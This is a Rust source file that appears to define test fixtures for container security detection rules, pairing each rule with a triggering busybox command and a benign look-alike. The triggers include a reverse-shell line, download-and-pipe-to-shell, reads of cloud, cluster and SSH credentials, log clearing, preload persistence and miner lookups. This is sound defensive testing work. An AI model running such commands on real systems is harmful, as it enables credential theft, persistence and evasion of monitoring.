//! What is done in containers to show the own rules: an act that fires each, and a look-alike.
//!
//! Commands of busybox's shell; `{name}` is the number of a system call for `act`.

/// Files of these names do nothing but be started: links to busybox, which does not know them.
pub const NAMES: &[&str] = &[
    "apt-get",
    "bash",
    "chattr",
    "dpkg",
    "gcc",
    "kubectl",
    "nginx",
    "nmap",
    "php-fpm8.2",
    "pkill",
    "ssh",
    "xmrig",
];
/// Of them those that make calls, as `act` does.
pub const SERVERS: &[&str] = &["bash", "nginx", "php-fpm8.2"];
pub const FOLDERS: &[&str] = &[
    "etc/pam.d",
    "mnt",
    "root/.aws",
    "root/.kube",
    "root/.ssh",
    "t",
    "usr/local/bin",
    "var/empty",
    "var/run/secrets/kubernetes.io/serviceaccount",
];
pub const FILES: &[&str] = &[
    "etc/hostname",
    "root/.aws/credentials",
    "root/.kube/config",
    "root/.ssh/id_ed25519",
    "root/.ssh/id_ed25519.pub",
    "var/log/auth.log",
    "var/run/secrets/kubernetes.io/serviceaccount/namespace",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
];

/// An act, and one alike.
pub struct Act {
    pub id: &'static str,
    pub fires: &'static str,
    pub quiet: &'static str,
    /// Done by user 1234, not by root.
    pub user: bool,
    /// Fires only in a container that has run for a minute.
    pub late: bool,
}

/// An act that needs a container of its own.
pub struct Boxed {
    pub act: Act,
    pub options: &'static [&'static str],
    /// Options of the one in which it fires.
    pub only_fires: &'static [&'static str],
}

const fn act(id: &'static str, fires: &'static str, quiet: &'static str) -> Act {
    Act {
        id,
        fires,
        quiet,
        user: false,
        late: false,
    }
}

const fn late(id: &'static str, fires: &'static str, quiet: &'static str) -> Act {
    Act {
        late: true,
        ..act(id, fires, quiet)
    }
}

const fn by_user(id: &'static str, fires: &'static str, quiet: &'static str) -> Act {
    Act {
        user: true,
        ..act(id, fires, quiet)
    }
}

pub const ACTS: &[Act] = &[
    act(
        "account-added",
        "mkdir -p /mnt/etc; : > /mnt/etc/passwd",
        "cat /etc/passwd",
    ),
    act("attack-tool", "nmap -h", "nc -h"),
    act(
        "authorized-keys",
        "mkdir -p /mnt/root/.ssh; : > /mnt/root/.ssh/authorized_keys",
        "cat /mnt/root/.ssh/authorized_keys",
    ),
    act(
        "binfmt-registered",
        ": > /proc/sys/fs/binfmt_misc/register",
        "ls /proc/sys/fs/binfmt_misc",
    ),
    act(
        "block-device-made",
        "mknod /tmp/disk b 8 0",
        "mknod /tmp/null c 1 3; mkfifo /tmp/pipe",
    ),
    act(
        "block-device-opened",
        "head -c 0 /dev/sda",
        "head -c 1 /dev/zero",
    ),
    act(
        "bpf-program-from-container",
        "act {bpf} 5 &64 64",
        "act {bpf} 0 &64 64",
    ),
    act(
        "cgroup-devices-allow",
        ": >> /sys/fs/cgroup/devices/devices.allow",
        "cat /sys/fs/cgroup/devices/devices.list",
    ),
    act(
        "cgroup-release-agent",
        ": > /sys/fs/cgroup/release_agent",
        "cat /sys/fs/cgroup/release_agent",
    ),
    act(
        "cloud-credentials",
        "cat /root/.aws/credentials",
        "act {openat} -100 @/root/.aws/credentials 0",
    ),
    act(
        "cloud-metadata",
        "nc -w 1 169.254.169.254 80",
        "nc -w 1 169.254.1.1 80",
    ),
    act(
        "cloud-metadata-any",
        "act {socket} 2 1 0 -- {connect} :1 ^169.254.169.254:80 16",
        "act {socket} 2 1 0 -- {connect} :1 ^169.254.1.1:80 16",
    ),
    act("cluster-client", "kubectl get pods", "kubectl version"),
    act(
        "cluster-credentials",
        "cat /root/.kube/config",
        "act {openat} -100 @/root/.kube/config 0",
    ),
    act("compiler-run", "gcc x.c", "gcc --version"),
    act(
        "core-pattern",
        ": > /proc/sys/kernel/core_pattern",
        "cat /proc/sys/kernel/core_pattern",
    ),
    act(
        "credential-search",
        "/bin/find /root -maxdepth 1 -name id_rsa",
        "/bin/find /var/log -name '*.log'",
    ),
    act(
        "decoded-piped",
        "/bin/sh -c 'echo dHJ1ZQ== | base64 -d | /bin/sh'",
        "/bin/sh -c 'echo dHJ1ZQ== | base64 -d > /tmp/file'",
    ),
    act(
        "defences-stopped",
        "/bin/pkill -f falco-that-is-not-there",
        "/bin/pkill -HUP rsyslogd",
    ),
    act(
        "deleted-executable",
        "cp /bin/busybox /tmp/gone; exec 9< /tmp/gone; rm /tmp/gone; /proc/self/fd/9 true",
        "/bin/busybox true",
    ),
    act(
        "descriptor-executed",
        "exec 9< /bin/busybox; /proc/self/fd/9 true",
        "echo true | /bin/sh /dev/fd/0",
    ),
    act(
        "descriptor-taken",
        "act {pidfd_getfd} -1 0 0",
        "act {pidfd_open} 1 0",
    ),
    act(
        "device-folder-executed",
        "echo true > /dev/shm/t; /bin/sh /dev/shm/t",
        ": > /dev/shm/x",
    ),
    act(
        "dns-tunnel-long",
        "l=$(printf %060d 0); timeout 1 nslookup $l.$l.$l.$l.example 127.0.0.1",
        "timeout 1 nslookup a-service.with-a-long-name.a-namespace.svc.cluster.local 127.0.0.1",
    ),
    act(
        "dns-tunnel-many",
        "act {socket} 2 2 0 -- repeat 1200 -- {sendto} :1 =1234010000010000000000000161076578616d706c650000010001 27 0 ^127.0.0.1:53 16",
        "act {socket} 2 2 0 -- repeat 50 -- {sendto} :1 =1234010000010000000000000161076578616d706c650000010001 27 0 ^127.0.0.1:53 16",
    ),
    act(
        "download-piped",
        "/bin/sh -c 'wget -q -O - http://127.0.0.1:9/x | /bin/sh'",
        "/bin/sh -c 'wget -q -O - http://127.0.0.1:9/health | grep ok'",
    ),
    act(
        "drift",
        "cp /bin/busybox /usr/local/bin/t; /usr/local/bin/t true",
        "/bin/busybox true",
    ),
    act(
        "engine-api-contacted",
        "nc -w 1 10.88.0.1 2375",
        "nc -w 1 10.88.0.1 8080",
    ),
    act(
        "engine-socket-used",
        "act {socket} 1 1 0 -- {connect} :1 +/var/run/docker.sock 110",
        "act {socket} 1 1 0 -- {connect} :1 +/var/run/shop.sock 110",
    ),
    act(
        "file-capability",
        ": > /tmp/c; act {setxattr} @/tmp/c @security.capability =0100000200200000000000000000000000000000 20 0",
        ": > /tmp/c; act {setxattr} @/tmp/c @user.note =00 1 0",
    ),
    act(
        "file-handle-opened",
        "act {open_by_handle_at} -100 &8 0",
        "act {name_to_handle_at} -100 @/etc/passwd &128 &8 0",
    ),
    act(
        "file-made-immutable",
        "/bin/chattr +i /none",
        "/bin/chattr -i /none",
    ),
    act(
        "hidden-executable",
        "mkdir -p /tmp/.x; cp /bin/busybox /tmp/.x/t; /tmp/.x/t true",
        "mkdir -p /root/.local/bin; cp /bin/busybox /root/.local/bin/t; /root/.local/bin/t true",
    ),
    act(
        "history-erased",
        ": > /root/.bash_history; rm /root/.bash_history",
        ": > /root/notes; rm /root/notes",
    ),
    act(
        "host-disk-mounted",
        "act {mount} @/dev/sda1 @/mnt @ext4 0 0",
        "act {mount} @tmpfs @/mnt @tmpfs 0 0; mount",
    ),
    act(
        "io-uring",
        "act {io_uring_setup} 1 &120",
        "act {epoll_create1} 0",
    ),
    act(
        "kernel-addresses-read",
        "head -c 1 /proc/kallsyms",
        "cat /proc/version",
    ),
    act(
        "kernel-filesystem-mounted",
        "act {mount} @cgroup @/mnt @cgroup 0 @rdma",
        "act {mount} @tmpfs @/mnt @tmpfs 0 0",
    ),
    act(
        "kernel-helper-program",
        ": > /proc/sys/kernel/modprobe",
        "cat /proc/sys/kernel/modprobe",
    ),
    act(
        "kernel-memory-opened",
        "head -c 0 /proc/kcore",
        "cat /proc/meminfo",
    ),
    act(
        "kernel-thread-posed",
        "act {execve} @/bin/busybox %[kworker/0:1],x 0",
        "/bin/[ -f /etc/passwd ]; /bin/test -f /etc/passwd",
    ),
    act("keyring-read", "act {keyctl} 6 -4 0 0", "act {keyctl} 1 0"),
    act(
        "known-local-exploit",
        "GLIBC_TUNABLES=glibc.malloc.check=0 /bin/su --help",
        "/bin/su --help",
    ),
    act(
        "leaked-descriptor",
        "exec 9< /etc; cat /proc/self/fd/9/hostname",
        "exec 9< /etc/hostname; cat /proc/self/fd/9",
    ),
    late(
        "log-cleared",
        "truncate -s 0 /var/log/auth.log",
        "mv /var/log/auth.log /var/log/auth.log.1; touch /var/log/auth.log",
    ),
    late(
        "login-module-changed",
        ": > /etc/pam.d/other",
        "cat /etc/pam.d/other",
    ),
    act("machine-call", "swapoff /none", "free"),
    act(
        "many-connections",
        "act {socket} 2 1 0 -- repeat 3500 -- {connect} :1 ^127.0.0.1:9 16",
        "act {socket} 2 1 0 -- repeat 50 -- {connect} :1 ^127.0.0.1:9 16",
    ),
    act(
        "many-forks",
        "i=0; while [ $i -lt 2500 ]; do ( : ); i=$((i + 1)); done",
        "i=0; while [ $i -lt 50 ]; do ( : ); i=$((i + 1)); done",
    ),
    act(
        "memory-file-executed",
        "act {memfd_create} @x 0 -- {openat} -100 @/bin/busybox 0 -- {sendfile} :1 :2 0 9000000 -- {execveat} :1 @ %true 0 0x1000",
        "act {memfd_create} @x 0",
    ),
    act(
        "miner-arguments",
        "/bin/sh -c true stratum+tcp://pool.example.invalid:3333",
        "/bin/grep stratum+tcp:// /etc/passwd",
    ),
    act("miner-name", "xmrig", "/bin/grep xmrig /etc/passwd"),
    act(
        "miner-pool-asked",
        "timeout 1 nslookup pool.supportxmr.com 127.0.0.1",
        "timeout 1 nslookup pool.example.com 127.0.0.1",
    ),
    act(
        "miner-pool-port",
        "nc -w 1 192.0.2.1 3333",
        "nc -w 1 10.0.0.1 3333",
    ),
    act(
        "mount-in-container",
        "act {mount} @tmpfs @/mnt @tmpfs 0 0",
        "mount",
    ),
    act(
        "namespace-entered",
        "act {setns} -1 0",
        "readlink /proc/1/ns/uts",
    ),
    act(
        "netcat-listens",
        "timeout 1 nc -l -p 4444",
        "nc -w 1 127.0.0.1 80",
    ),
    act(
        "no-descriptor-left",
        "ulimit -n 8; exec 3< /etc/passwd 4<&3 5<&3 6<&3 7<&3; cat /etc/passwd",
        "exec 3< /etc/passwd 4<&3 5<&3 6<&3 7<&3; cat /etc/passwd",
    ),
    act(
        "no-space-left",
        "act {openat} -100 @/t/1 0x41 384 -- {openat} -100 @/bin/busybox 0 -- repeat 3 -- {sendfile} :1 :2 0 9000000; rm /t/1",
        "act {openat} -100 @/t/2 0x41 384 -- {openat} -100 @/etc/passwd 0 -- {sendfile} :1 :2 0 9; rm /t/2",
    ),
    act(
        "other-root-walked",
        "cat /proc/1/root/etc/hostname",
        "cat /etc/hostname; readlink /proc/1/root",
    ),
    act(
        "package-installed",
        "apt-get install --simulate hello",
        "dpkg -l",
    ),
    act(
        "password-hashes",
        "head -c 1 /etc/shadow",
        "head /etc/passwd",
    ),
    act(
        "perf-event",
        "act {perf_event_open} &64 0 -1 -1 0",
        "act {getpid}",
    ),
    act(
        "php-shell",
        "php-fpm8.2 fork -- {execve} @/bin/sh %sh,-c,true 0",
        "php-fpm8.2 fork -- {execve} @/bin/sh %sh,-c,sendmail 0",
    ),
    act(
        "port-scan",
        "act {socket} 2 1 0 -- repeat 300 -- {connect} :1 ^127.0.0.1:9 16",
        "act {socket} 2 1 0 -- repeat 20 -- {connect} :1 ^127.0.0.1:9 16",
    ),
    act(
        "preload-file",
        ": >> /etc/ld.so.preload; rm /etc/ld.so.preload",
        "cat /etc/ld.so.preload",
    ),
    act(
        "preload-variable",
        "LD_PRELOAD=/tmp/none.so /bin/busybox true",
        "LD_PRELOAD=/usr/lib/libjemalloc.so.2 /bin/busybox true",
    ),
    late(
        "private-keys",
        "cat /root/.ssh/id_ed25519",
        "cat /root/.ssh/id_ed25519.pub",
    ),
    act(
        "proc-sys-write",
        ": > /proc/sys/kernel/kptr_restrict",
        ": > /proc/sys/net/ipv4/ip_forward; cat /proc/sys/kernel/kptr_restrict",
    ),
    act(
        "process-environment",
        "cat /proc/1/environ",
        "cat /proc/self/environ",
    ),
    act(
        "process-memory-read",
        "head -c 0 /proc/1/mem",
        "cat /proc/1/maps",
    ),
    act(
        "process-memory-written",
        ": >> /proc/self/mem",
        "cat /proc/self/maps",
    ),
    act(
        "process-traced",
        "act {ptrace} 16 1 0 0",
        "act {ptrace} 0 0 0 0",
    ),
    act(
        "processor-registers",
        "head -c 0 /dev/cpu/0/msr",
        "cat /proc/cpuinfo",
    ),
    act(
        "program-from-pipe",
        "/bin/sh -c 'echo true | /bin/sh; true'",
        "/bin/sh -c 'echo true; true'",
    ),
    act(
        "rare-socket-family",
        "act {socket} 21 5 0",
        "act {socket} 16 3 0",
    ),
    act(
        "raw-socket",
        "act {socket} 17 3 0",
        "ping -c 1 -W 1 127.0.0.1",
    ),
    act(
        "reverse-shell-words",
        "/bin/sh -c 'true || bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
        "nc -w 1 127.0.0.1 9",
    ),
    act(
        "root-changed",
        "chroot /mnt/x true",
        "chroot /var/empty true",
    ),
    act(
        "runtime-overwritten",
        ": >> /proc/self/exe",
        "head -c 4 /proc/self/exe",
    ),
    act(
        "scheduled-task",
        "mkdir -p /mnt/etc/cron.d; : > /mnt/etc/cron.d/x",
        "cat /mnt/etc/cron.d/x",
    ),
    act(
        "security-module-off",
        ": >> /sys/fs/selinux/enforce",
        "cat /sys/fs/selinux/enforce",
    ),
    act(
        "server-shell",
        "nginx fork -- {execve} @/bin/sh %sh,-c,true 0",
        "/bin/sh -c true",
    ),
    act("server-tool", "nginx fork -- {execve} @/bin/id %id 0", "id"),
    act(
        "service-account-token",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
    ),
    act(
        "service-added",
        "mkdir -p /mnt/etc/init.d; : > /mnt/etc/init.d/x",
        "cat /mnt/etc/init.d/x",
    ),
    act(
        "setuid-bit",
        "cp /bin/busybox /tmp/s; chmod u+s /tmp/s",
        "cp /bin/busybox /tmp/s; chmod 755 /tmp/s",
    ),
    act(
        "shell-connects",
        "bash {socket} 2 1 6 -- {connect} :1 ^10.88.0.1:9 16",
        "nc -w 1 10.88.0.1 9",
    ),
    act(
        "shell-on-socket",
        "nc -l -p 4445 & sleep 0.5; act {socket} 2 1 0 -- {connect} :1 ^127.0.0.1:4445 16 -- {dup3} :1 0 0 -- {execve} @/bin/sh %sh,-c,true 0",
        "echo true | /bin/sh",
    ),
    late(
        "startup-file",
        "echo true >> /root/.bashrc",
        "cat /root/.bashrc",
    ),
    act(
        "stream-onto-socket",
        "nc -l -p 4446 & sleep 0.5; bash {socket} 2 1 0 -- {connect} :1 ^127.0.0.1:4446 16 -- {dup3} :1 0 0",
        "nc -l -p 4447 & sleep 0.5; bash {socket} 2 1 0 -- {connect} :1 ^127.0.0.1:4447 16 -- {dup3} :1 9 0",
    ),
    act(
        "sys-write",
        ": >> /sys/kernel/profiling",
        "cat /sys/kernel/profiling",
    ),
    act(
        "sysrq-trigger",
        ": >> /proc/sysrq-trigger",
        "stat /proc/sysrq-trigger",
    ),
    act(
        "temporary-folder-executed",
        "cp /bin/busybox /tmp/t; /tmp/t true",
        "echo true > /tmp/t.sh; /bin/sh /tmp/t.sh",
    ),
    // Without a time to set, so that nothing is set whatever is allowed.
    act("time-set", "act {clock_settime} 0 0", "date"),
    act(
        "timestamp-forged",
        "/bin/touch -r /bin/true /usr/local/bin/none",
        "/bin/touch -d 2020-01-01 /tmp/mark",
    ),
    act(
        "tunnel-opened",
        "ssh -R 8080:localhost:80 nobody@127.0.0.1",
        "ssh host command",
    ),
    act(
        "user-namespace-made",
        "act {unshare} 0x10000000",
        "act {unshare} 0x200",
    ),
    by_user("userfaultfd", "act {userfaultfd} 0", "act {eventfd2} 0 0"),
];

pub const BOXED: &[Boxed] = &[
    Boxed {
        act: act(
            "no-port-left",
            "act {socket} 2 1 6 -- {bind} :1 ^127.0.0.1:4448 16 -- {listen} :1 8 -- {socket} 2 1 6 -- {connect} :4 ^127.0.0.1:4448 16 -- {socket} 2 1 6 -- {connect} :6 ^127.0.0.1:4448 16 -- {socket} 2 1 6 -- {connect} :8 ^127.0.0.1:4448 16",
            "act {socket} 2 1 6 -- {connect} :1 ^127.0.0.1:9 16",
        ),
        options: &["--sysctl", "net.ipv4.ip_local_port_range=61000 61001"],
        only_fires: &[],
    },
    Boxed {
        act: act(
            "no-process-left",
            "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep 1 & done",
            "for i in 1 2 3; do sleep 1 & done",
        ),
        options: &[],
        only_fires: &["--pids-limit", "6"],
    },
    Boxed {
        act: act("out-of-memory", "tail /dev/zero", "tail -c 10 /etc/passwd"),
        options: &["--memory", "16m"],
        only_fires: &[],
    },
    Boxed {
        act: act("terminal-shell", "true", "true"),
        options: &[],
        only_fires: &["--tty"],
    },
];

/// A command with the numbers of system calls in it.
pub fn numbered(command: &str) -> String {
    let mut out = command.to_owned();
    for (name, number) in CALLS {
        out = out.replace(&format!("{{{name}}}"), &number.to_string());
    }
    assert!(!out.contains('{'), "{out}");
    out
}

const CALLS: &[(&str, libc::c_long)] = &[
    ("bind", libc::SYS_bind),
    ("bpf", libc::SYS_bpf),
    ("clock_settime", libc::SYS_clock_settime),
    ("connect", libc::SYS_connect),
    ("dup3", libc::SYS_dup3),
    ("epoll_create1", libc::SYS_epoll_create1),
    ("eventfd2", libc::SYS_eventfd2),
    ("execve", libc::SYS_execve),
    ("execveat", libc::SYS_execveat),
    ("getpid", libc::SYS_getpid),
    ("io_uring_setup", libc::SYS_io_uring_setup),
    ("keyctl", libc::SYS_keyctl),
    ("listen", libc::SYS_listen),
    ("memfd_create", libc::SYS_memfd_create),
    ("mount", libc::SYS_mount),
    ("name_to_handle_at", libc::SYS_name_to_handle_at),
    ("open_by_handle_at", libc::SYS_open_by_handle_at),
    ("openat", libc::SYS_openat),
    ("perf_event_open", libc::SYS_perf_event_open),
    ("pidfd_getfd", libc::SYS_pidfd_getfd),
    ("pidfd_open", libc::SYS_pidfd_open),
    ("ptrace", libc::SYS_ptrace),
    ("sendfile", libc::SYS_sendfile),
    ("sendto", libc::SYS_sendto),
    ("setns", libc::SYS_setns),
    ("setxattr", libc::SYS_setxattr),
    ("socket", libc::SYS_socket),
    ("unshare", libc::SYS_unshare),
    ("userfaultfd", libc::SYS_userfaultfd),
];
